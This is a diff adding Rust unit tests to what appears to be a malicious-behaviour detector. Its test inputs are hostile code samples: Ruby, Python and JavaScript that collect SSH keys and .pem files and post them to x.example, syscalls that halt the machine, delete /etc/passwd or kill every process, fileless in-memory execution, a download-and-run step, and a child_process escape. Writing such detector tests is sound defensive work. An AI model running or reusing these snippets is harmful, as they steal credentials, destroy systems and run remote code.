@@ -154,3 +154,63 @@ const ORDINARY_JAVASCRIPT: &[&str] = &[
     "class A { run() { return this.items.map(String); } } new A().run();",
     "const a = []; for (const x of [1, 2]) a.push(x); console.log(a);",
 ];
+
+#[test]
+fn secrets_that_are_looked_for_are_secrets() {
+    assert_found(
+        Language::Ruby,
+        &[(
+            "keys = Dir.glob(File.expand_path('~/.ssh/*')).map { |f| File.read(f) }\nNet::HTTP.post(URI('http://x.example'), keys.join)",
+            "Send … with-secrets",
+        )],
+    );
+    let python = |top: &str| {
+        format!(
+            "import os, requests\nall = []\nfor r, _, fs in os.walk({top}):\n  for f in fs:\n    if f.endswith('.pem'):\n      all.append(open(os.path.join(r, f)).read())\nrequests.post('http://x.example', json=all)"
+        )
+    };
+    let home = python("os.path.expanduser('~')");
+    assert_found(Language::Python, &[(&home, "Send http://x.example with-secrets")]);
+    let javascript = "const fs = require('fs'), path = require('path'); const all = []; function walk(d) { for (const f of fs.readdirSync(d)) { if (/\\.pem$/.test(f)) all.push(fs.readFileSync(path.join(d, f), 'utf8')) } } walk(require('os').homedir()); fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(all) })";
+    assert_found(Language::JavaScript, &[(javascript, "Send https://x.example/c with-secrets")]);
+    let own = words(Language::Python, &python("'certificates'"));
+    assert!(!own.iter().any(|word| word.contains("secrets")), "{own:?}");
+}
+
+#[test]
+fn system_calls_by_their_numbers_are_functions() {
+    assert_found(
+        Language::Python,
+        &[
+            ("import ctypes\nctypes.CDLL(None).syscall(169, 1, 2, 3, None)", "Halt machine"),
+            (
+                "import ctypes\nl = ctypes.CDLL('libc.so.6')\nl.syscall(263, -100, b'/etc/passwd', 0)",
+                "Delete /etc/passwd",
+            ),
+            ("import ctypes\nctypes.CDLL(None).kill(-1, 9)", "Kill -1 all"),
+            (
+                "import os\nfd = os.memfd_create('x')\nos.write(fd, b'x')\nos.execve(f'/proc/self/fd/{fd}', ['x'], {})",
+                "DecodedCode machine code in memory hidden",
+            ),
+        ],
+    );
+    assert_quiet(Language::Python, &["import ctypes\nctypes.CDLL(None).syscall(39)"]);
+}
+
+#[test]
+fn what_was_fetched_is_known_where_it_is_started() {
+    assert_found(
+        Language::Python,
+        &[(
+            "import os, subprocess, tempfile, urllib.request as u\nfd, path = tempfile.mkstemp()\nos.write(fd, u.urlopen('http://x.example').read())\nsubprocess.Popen([path])",
+            "NetworkCode a file that was fetched before",
+        )],
+    );
+    assert_found(
+        Language::JavaScript,
+        &[(
+            "const g = Function('return this')(); g.process.mainModule.require('child_process').exec('id')",
+            "shell id",
+        )],
+    );
+}
